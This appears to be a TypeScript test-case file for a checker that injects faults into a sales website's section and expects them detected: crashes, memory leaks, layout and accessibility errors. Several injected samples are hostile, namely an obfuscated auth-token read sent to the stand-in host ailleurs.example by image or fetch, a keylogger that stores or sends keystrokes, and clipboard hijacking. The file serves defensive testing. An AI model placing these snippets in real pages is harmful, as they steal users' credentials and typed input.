import { atLoad, component, element, type GateCase, replace, show, styled, trial } from '../gate-case.ts'
import { endlessLoop } from './files.ts'

/** Runs this code once the component is in the page. It throws in its next render after `fail()`. */
const once = (effect: string, jsx = '<p>Nouveau</p>') =>
  show(
    component(
      `const [failed, setFailed] = useState(false)
      const box = useRef<HTMLDivElement>(null)
      const fail = () => setFailed(true)
      useEffect(() => {
        void [box, fail]
        ${effect}
      }, [])
      if (failed) throw new Error('thrown on purpose')`,
      `<div ref={box}>${jsx}</div>`
    )
  )
const button = (onClick: string) =>
  `<button type="button" className="btn" onClick={${onClick}}>Plus de détails</button>`

/** Listens to all of the document while the page is shown. */
const listens = (type: 'keydown' | 'copy', effect: string) =>
  once(`const listen = (event: DocumentEventMap['${type}']) => { ${effect} }
        document.addEventListener('${type}', listen, true)
        return () => document.removeEventListener('${type}', listen, true)`)

/** A minute after the page was opened. */
const after60 = (effect: string) =>
  once(`let timer = setTimeout(() => { ${effect} }, 60_000)
        return () => clearTimeout(timer)`)

const largeText = '<p className={css.mine}>Un projet avec nous à Thiès</p>'

const onPurpose = /thrown on purpose|notice of a failed section|another build/
const policy = (directive: string) => new RegExp(`${directive}|Content Security Policy|Trusted|ailleurs\\.example`)
const token = "localStorage[atob('YXV0aFRva2Vu')]"
const recordPages = { pages: ['/ventes', '/ventes/detail/:id'] }
const notInKit = /drillNew|is not a function/
const newKitName = `import * as format from '@keur/kit/format'
const { drillNew } = format as unknown as { drillNew(): string }`
const bar = 'position: fixed; inset: 0 0 auto; height: 90px; z-index: 9999; background: #fff; color: #000'

const throwsIf = (condition: string) =>
  `if (typeof document !== 'undefined' && ${condition}) throw new Error('thrown on purpose')
  const to = salePath(sale)`
const otherwise = /thrown on purpose|failed section|heading/

const edits = {
  fetch: atLoad(`const { fetch } = window
     window.fetch = (...request) => fetch(...request)
     const { send } = XMLHttpRequest.prototype
     XMLHttpRequest.prototype.send = function (body) { send.call(this, body) }`),
  map: atLoad(`const { map } = Array.prototype
     Object.assign(Array.prototype, {
       map(this: unknown[], ...given: Parameters<typeof map>) { return map.apply(this, given) }
     })`),
  pushState: atLoad('const { pushState } = history; history.pushState = (...given) => pushState.apply(history, given)'),
  tokenRead: atLoad("localStorage.getItem(atob('YXV0aFRva2Vu'))"),
  newNameOnClick: element(button('() => { drillNew() }'), newKitName),
  newName: element('<p>{drillNew()}</p>', newKitName),
  tokenByImage: atLoad(
    `const token = ${token}; setTimeout(() => { new Image().src = 'https://ailleurs.example/p.png?' + token }, 1000)`
  ),
  tokenByFetch: atLoad(`setTimeout(() => fetch('https://ailleurs.example/?' + ${token}).catch(() => {}), 500)`),
  inlineScript: atLoad(
    "document.head.append(Object.assign(document.createElement('script'), { textContent: 'window.ventesInline = 1' }))"
  ),
  scroll: once("addEventListener('scroll', fail, { once: true }); return () => removeEventListener('scroll', fail)"),
  handler: element(button("() => { throw new Error('thrown on purpose') }")),
  rejects: once("setTimeout(() => Promise.reject(new Error('thrown on purpose')), 3000)"),
  record: replace(
    'src/detail/detail-page.tsx',
    'export function SalePage',
    `if (typeof document !== 'undefined') setTimeout(() => { throw new Error('thrown on purpose') }, 500)
export function SalePage`
  ),
  hydration: element("<p>{typeof document === 'undefined' ? 'un' : 'deux'}</p>"),
  serverLoop: show(component(`if (typeof document === 'undefined') ${endlessLoop}`, '<p>Nouveau</p>')),
  heap: once('const all: unknown[] = []; setInterval(() => all.push(new Array(250_000).fill(Math.random())), 100)'),
  nodes: show(`const held: Node[] = []
${component('useEffect(() => { for (let at = 0; at < 3000; at += 1) held.push(new Text()) }, [])', '<p>Nouveau</p>')}`),
  timer: once("setInterval(() => box.current?.toggleAttribute('hidden', false), 500)"),
  deadLink: element('<a href="/ventes/cette-page-n-existe-pas">Nos offres</a>'),
  tenfold: replace('src/list/sale-card.tsx', 'amount={details.price}', 'amount={Number(details.price) * 10}'),
  telephone: element('<a href="tel:+33612345678">Appeler</a>'),
  rival: element('<a href="https://ailleurs.example/" rel="noreferrer">D’autres offres</a>'),
  slowServer: show(
    component(
      "if (typeof document === 'undefined') for (const end = Date.now() + 1600; Date.now() < end; ) void 0",
      '<p>Nouveau</p>'
    )
  ),
  keysStored: listens(
    'keydown',
    "const before = localStorage['ventes:frappe'] ?? ''; localStorage['ventes:frappe'] = before + ' ' + event.key"
  ),
  keysSent: show(`const typed: string[] = []
${component(
  `useEffect(() => {
    const onKey = ({ key }: KeyboardEvent) => {
      typed.unshift(key)
      if (typed.length % 8 === 0) void fetch('/api/articles?' + btoa(typed.join('')))
    }
    addEventListener('keydown', onKey)
    return () => removeEventListener('keydown', onKey)
  }, [])`,
  '<p>Nouveau</p>'
)}`),
  copy: listens('copy', "event.clipboardData?.setData('text/plain', '+33612345678'); event.preventDefault()"),
  frame: once(
    "const frame = document.createElement('iframe'); box.current?.append(frame); return () => frame.remove()"
  ),
  leakLater: after60(`const all: unknown[] = []
          timer = setInterval(() => all.push(new Array(250_000).fill(Math.random())), 100)`),
  priceLater: after60("if (box.current) box.current.textContent = '45 000 F CFA'"),
  largePage: element("<p hidden>{'a '.repeat(600_000)}</p>"),
  serverStatus: replace(
    'src/routes.tsx',
    'saleLists.map(saleListRoute)',
    `saleLists.map((list) => {
  const loader = () => { throw new Response('', { status: 502 }) }
  return { ...saleListRoute(list), loader } as RouteObject
})`
  ),
  busy: once(`const work = () => { for (const end = performance.now() + 40; performance.now() < end; ) void 0 }
        const timer = setInterval(work, 50)
        return () => clearInterval(timer)`),
  blank: once('setTimeout(() => { document.open(); document.close() }, 12_000)'),
  noPhotos: replace('src/list/sale-card.tsx', 'const to = salePath(sale)', throwsIf('images.length === 0')),
  longTitle: replace('src/list/sale-card.tsx', 'const to = salePath(sale)', throwsIf('title.length > 150')),
  nameless: element('<img src="/favicon.svg" width={10} height={10} /><button type="button" />')
}

const others = {
  'in-english': "document.documentElement.lang === 'en'",
  'in-another-zone': 'new Date().getTimezoneOffset() !== 0',
  'in-the-dark': "matchMedia('(prefers-color-scheme: dark)').matches",
  'without-motion': "matchMedia('(prefers-reduced-motion: reduce)').matches",
  'on-return': "performance.getEntriesByType('navigation')[0]?.toJSON().type === 'back_forward'"
}

/** What the section does to the page that it shares with all others, and what visitors meet on it. */
export const visitFaults: GateCase[] = [
  trial('patched-fetch', 'replaces fetch and XMLHttpRequest.send', /built-ins: it replaces/, edits.fetch),
  trial('patched-array', 'replaces Array.prototype.map', /built-ins: it replaces/, edits.map),
  trial('patched-history', 'replaces history.pushState', /built-ins: it (replaces|adds)/, edits.pushState),
  trial('storage-cleared', 'localStorage.clear()', /storage: it removes/, atLoad('localStorage.clear()')),
  trial('token-read', 'reads the session’s token, whose name it conceals', /it reads « authToken »/, edits.tokenRead),
  trial('token-by-image', 'sends the token as the address of an image', policy('img-src'), edits.tokenByImage),
  trial('token-by-fetch', 'sends the token by fetch to another site', policy('connect-src'), edits.tokenByFetch),
  trial('inline-script', 'adds an inline script', policy('script-src'), edits.inlineScript),
  trial('bar-over-header', 'a fixed bar over the header', /covered|hidden/, styled(`.mine { ${bar} }`)),
  trial('throws-soon', 'throws in render after 2 s', onPurpose, once('setTimeout(fail, 2000)')),
  trial('throws-late', 'throws in render after 8 s', onPurpose, once('setTimeout(fail, 8000)')),
  trial('throws-on-scroll', 'throws in render once it was scrolled', onPurpose, edits.scroll),
  trial('throws-on-click', 'a button makes it throw in render', onPurpose, once('', button('fail'))),
  trial('throws-in-handler', 'a button throws in its handler', onPurpose, edits.handler),
  trial('rejects', 'a promise is rejected after 3 s', onPurpose, edits.rejects),
  trial('throws-on-phones', 'throws in render below 600 px', onPurpose, once('if (innerWidth < 600) fail()')),
  trial(
    'throws-in-record',
    'throws on the page of a record',
    /thrown on|status 5|failed section/,
    edits.record,
    recordPages
  ),
  trial('hydration', 'the browser renders another text than the server', /hydration|React error 418/, edits.hydration),
  trial('server-loop', 'a loop in the server render', /longer than|PageLate|server|late/i, edits.serverLoop),
  trial('browser-loop', 'a loop in the browser', /respond|hydrate|late|limit/, once(endlessLoop)),
  trial('new-kit-name-on-click', 'a name that the live kit lacks, used on click', notInKit, edits.newNameOnClick),
  trial('new-kit-name', 'a name that the live kit lacks, rendered', notInKit, edits.newName),
  trial('heap-leak', '2 MB each 100 ms', /heap|memory|left running|MB|adds/, edits.heap),
  trial('node-leak', 'each visit leaves 3,000 elements', /each visit leaves 3\d+ more nodes/, edits.nodes),
  trial('timer-left', 'a timer runs on after the page', /left running|one more after each visit/, edits.timer),
  trial('dead-link', 'a link to a page that does not exist', /cette-page-n-existe-pas/, edits.deadLink),
  trial('accessibility', 'an image without alt, a button without a name', /accessibility/, edits.nameless),
  trial('price-tenfold', 'each price of the list is ten times as high', /content: it shows prices/, edits.tenfold),
  trial(
    'other-telephone',
    'a telephone that is not the agency’s',
    /content: .*contacts .*33612345678/,
    edits.telephone
  ),
  trial('rival-link', 'a link to another site', /content: .*sites .*ailleurs/, edits.rival),
  trial(
    'slow-server',
    'the server needs 1.6 s, and renders twice',
    /the server needs more than|cannot render/,
    edits.slowServer
  ),
  trial('web-rtc', 'connects to another computer', /RTCPeerConnection/, once('new RTCPeerConnection()')),
  trial('frame', 'opens an empty frame', /opens a frame/, edits.frame),
  trial('keys-stored', 'stores each key that is pressed', /typed text: .*localStorage ventes:frappe/, edits.keysStored),
  trial('keys-sent', 'sends keys backwards, in Base64', /typed text: .*GET \/api\/articles/, edits.keysSent),
  trial('copy-replaced', 'replaces what is copied', /clipboard: what a visitor copies/, edits.copy),
  trial(
    'copy-unasked',
    'writes to the clipboard',
    /clipboard: it is written/,
    once("void navigator.clipboard.writeText('77')")
  ),
  trial('leak-later', '2 MB each 100 ms after a minute', /memory: it grows|out of memory/, edits.leakLater),
  trial('price-later', 'another price after a minute', /content: within 95 s, .* prices/, edits.priceLater),
  trial(
    'fixed-height',
    'a box that large text does not fit in',
    /text twice as large, .*Un projet.* is cut off/,
    styled('.mine { height: 28px; overflow: hidden }', largeText)
  ),
  trial(
    'one-line',
    'a line that large text makes wider than a phone',
    /text twice as large, 360 px wide: .*Un projet.* reaches beyond/,
    styled('.mine { white-space: nowrap }', largeText)
  ),
  trial('large-page', 'a page of 1.2 MB', /no page: its HTML has 1\.3 MB/, edits.largePage),
  trial('server-status', 'the server responds with 502', /no page: its status/, edits.serverStatus),
  trial('busy', 'works for 40 of each 50 ms', /works: it uses \d+ %/, edits.busy),
  trial('blank-page', 'empties its page after 12 s', /heading|accessibility|hydrate/, edits.blank),
  trial('throws-without-photos', 'throws for a record without photos', otherwise, edits.noPhotos),
  trial('throws-on-long-title', 'throws for a title of 150 characters', otherwise, edits.longTitle),
  ...Object.entries(others).map(([what, condition]) =>
    trial(`throws-${what}`, `throws for a visitor: ${what}`, otherwise, once(`if (${condition}) fail()`))
  )
]
